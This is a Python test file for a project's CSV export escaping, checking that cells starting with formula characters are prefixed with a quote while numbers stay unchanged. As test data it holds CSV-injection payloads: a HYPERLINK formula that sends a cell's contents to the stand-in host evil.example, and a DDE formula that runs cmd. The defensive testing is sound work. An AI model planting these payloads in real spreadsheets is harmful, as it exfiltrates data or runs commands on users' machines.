"""CSV exports escape text a spreadsheet would run as a formula (OWASP CSV injection) and
leave numbers alone: cockpit.exports itself, every page's download (cockpit.ui.table) and
the files the `clv` command writes, each read back as a spreadsheet would get them."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from cockpit.cli import main
from cockpit.exports import FORMULA_STARTS, csv_download, escaped, safe_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"查看")'
DDE = "=cmd|' /c calc'!A0"
DANGEROUS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def rows(text: str) -> list[list[str]]:
    """The cells exactly as a CSV reader (and so a spreadsheet) gets them."""
    return list(csv.reader(io.StringIO(text)))


def test_the_characters_are_owasps():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("value", DANGEROUS)
def test_each_dangerous_start_is_escaped_with_a_quote(value):
    header, *body = rows(safe_csv(pd.DataFrame({"host": [value]})))
    assert header == ["host"]
    assert body == [["'" + value]]  # the original text, whole, after one quote


def test_dangerous_cells_come_back_escaped_through_pandas_too():
    back = pd.read_csv(io.StringIO(safe_csv(pd.DataFrame({"host": DANGEROUS}))),
                       keep_default_na=False)
    assert back["host"].tolist() == ["'" + v for v in DANGEROUS]


def test_commas_and_quotes_inside_a_cell_cannot_start_a_new_cell():
    """The HYPERLINK payload holds `,` and `"`: quoted as CSV requires, it stays one cell, so
    its `"查看")` part cannot land at the start of a cell of its own."""
    text = safe_csv(pd.DataFrame({"host": [HYPERLINK], "n": [1]}))
    assert rows(text)[1] == ["'" + HYPERLINK, "1"]
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://')


@pytest.mark.parametrize("value", ["abc\r=cmd|' /c calc'!A0", "abc\n=1+1", "abc\r\n@SUM(A1)"])
def test_a_line_end_inside_a_cell_cannot_start_a_row(value):
    """A CR or LF later in the cell: the first character is safe, but a spreadsheet that
    split the row there would find the formula first in the next row. The cell is quoted
    (RFC 4180, CRLF line ends), so it stays one cell of one row."""
    text = safe_csv(pd.DataFrame({"note": [value], "n": [1]}))
    assert text.endswith("\r\n")
    assert rows(text) == [["note", "n"], [value, "1"]]
    assert f'"{value}",1\r\n' in text


@pytest.mark.parametrize("value", ["主播小红", "李-宁 旗舰店", "SKU-123", "a=b", "x@y.com",
                                   "12.5", "' already quoted", " =1+1", ""])
def test_ordinary_text_is_unchanged(value):
    """Chinese, a `-`, `=` or `@` after the first character, and a leading space: the rule
    is the first character only (a cell starting with a space opens as text)."""
    assert rows(safe_csv(pd.DataFrame({"name": [value]})))[1] == [value]


def test_numbers_booleans_and_dates_are_written_as_before():
    frame = pd.DataFrame({
        "delta": [-12.5, 3.0], "count": pd.array([-5, 7], dtype="Int64"),
        "ok": [True, False], "day": pd.to_datetime(["2026-01-02", "2026-03-04"]),
        "mixed": pd.Series([-1.5, "-1.5"], dtype=object)})
    got = rows(safe_csv(frame))
    plain = rows(frame.to_csv(index=False))
    assert [r[:4] for r in got] == [r[:4] for r in plain]
    assert got[1][:2] == ["-12.5", "-5"]  # negative numbers stay negative numbers
    # in a text column only strings are escaped: a float there stays a number
    assert [got[1][4], got[2][4]] == ["-1.5", "'-1.5"]
    assert pd.read_csv(io.StringIO(safe_csv(frame)))["delta"].tolist() == [-12.5, 3.0]


def test_a_negative_looking_id_held_as_text_is_escaped():
    """"-5" in a text column (an id) would be harmless in Excel, but the rule is the first
    character, as OWASP's is: judging which text after a `-` is safe is what it avoids
    (-2+3, -cmd|...). So it reads back as '-5; the same id as a number is not touched."""
    text_ids = pd.DataFrame({"customer_id": ["-5", "17"]})
    number_ids = pd.DataFrame({"customer_id": [-5, 17]})
    assert [r[0] for r in rows(safe_csv(text_ids))[1:]] == ["'-5", "17"]
    assert [r[0] for r in rows(safe_csv(number_ids))[1:]] == ["-5", "17"]


def test_category_and_string_dtype_columns_are_text():
    frame = pd.DataFrame({"cat": pd.Categorical(["=1+1", "ok", "=1+1"]),
                          "s": pd.array(["@x", None, "y"], dtype="string")})
    assert rows(safe_csv(frame))[1:] == [["'=1+1", "'@x"], ["ok", ""], ["'=1+1", "y"]]


def test_headers_are_escaped():
    frame = pd.DataFrame([[1, 2, 3]], columns=["=1+1", "金额", 0])
    assert rows(safe_csv(frame))[0] == ["'=1+1", "金额", "0"]


def test_duplicate_headers_and_the_callers_frame_survive():
    frame = pd.DataFrame([["=a", "=b"]], columns=["x", "x"])
    assert rows(safe_csv(frame)) == [["x", "x"], ["'=a", "'=b"]]
    assert frame.iloc[0].tolist() == ["=a", "=b"]  # the caller's frame is not changed
    assert escaped(frame).shape == frame.shape


def test_download_bytes_are_escaped_utf8_with_a_bom():
    data = csv_download(pd.DataFrame({"主播": [HYPERLINK], "gmv": [-12.5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert rows(data.decode("utf-8-sig")) == [["主播", "gmv"], ["'" + HYPERLINK, "-12.5"]]


def test_every_pages_download_button_gets_escaped_bytes(monkeypatch):
    """cockpit.ui.table, the helper behind every page's download button."""
    import cockpit.ui as ui

    got: dict = {}
    monkeypatch.setattr(ui.st, "dataframe", lambda *a, **k: None)
    monkeypatch.setattr(ui.st, "download_button", lambda *a, **k: got.update(k))
    shown = pd.DataFrame({"host": ["(shown, not exported)"]})
    raw = pd.DataFrame({"host": [DDE, "主播小红"], "gmv": [-12.5, 3.0]})
    ui.table(shown, "live_hosts", "zh", raw=raw)
    assert got["file_name"] == "live_hosts.csv"
    assert rows(got["data"].decode("utf-8-sig")) == [
        ["host", "gmv"], ["'" + DDE, "-12.5"], ["主播小红", "3.0"]]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _orders() -> pd.DataFrame:
    """Eight customers with one to four orders each (the fourth in the holdout window)."""
    rows_ = []
    ids = [HYPERLINK, "-5", "@SUM(A1)", "1001", "1002", "1003", "1004", "1005"]
    for n, cid in enumerate(ids):
        for k in range(1 + n % 4):
            rows_.append({"customer_id": cid, "order_date": f"2024-{1 + k * 2:02d}-{5 + n:02d}",
                          "amount": 50.0 + 10 * n + k})
    return pd.DataFrame(rows_)


def test_clv_command_writes_escaped_ids_and_plain_numbers(tmp_path):
    path = tmp_path / "orders.csv"
    _orders().to_csv(path, index=False)
    out = tmp_path / "out"
    code = main(["clv", "--orders", str(path), "--calibration-end", "2024-06-30",
                 "--holdout-end", "2024-12-31", "--out", str(out)])
    assert code == 0
    raw = (out / "customers.csv").read_bytes()
    assert raw.endswith(b"\r\n") and b"\r\r\n" not in raw  # CRLF, written unchanged
    assert '"=HYPERLINK' not in raw.decode("utf-8")  # never raw at the start of a cell
    customers = pd.read_csv(out / "customers.csv", dtype={"customer_id": str})
    assert {"'" + HYPERLINK, "'-5", "'@SUM(A1)", "1001"} <= set(customers["customer_id"])
    for column in customers.columns.drop("customer_id"):
        assert pd.api.types.is_numeric_dtype(customers[column]), column  # numbers stay numbers
    cells = [cell for name in ("customers.csv", "holdout.csv")
             for row in rows((out / name).read_text(encoding="utf-8")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    holdout = pd.read_csv(out / "holdout.csv")
    assert {"customers", "predicted", "actual"} <= set(holdout.columns)
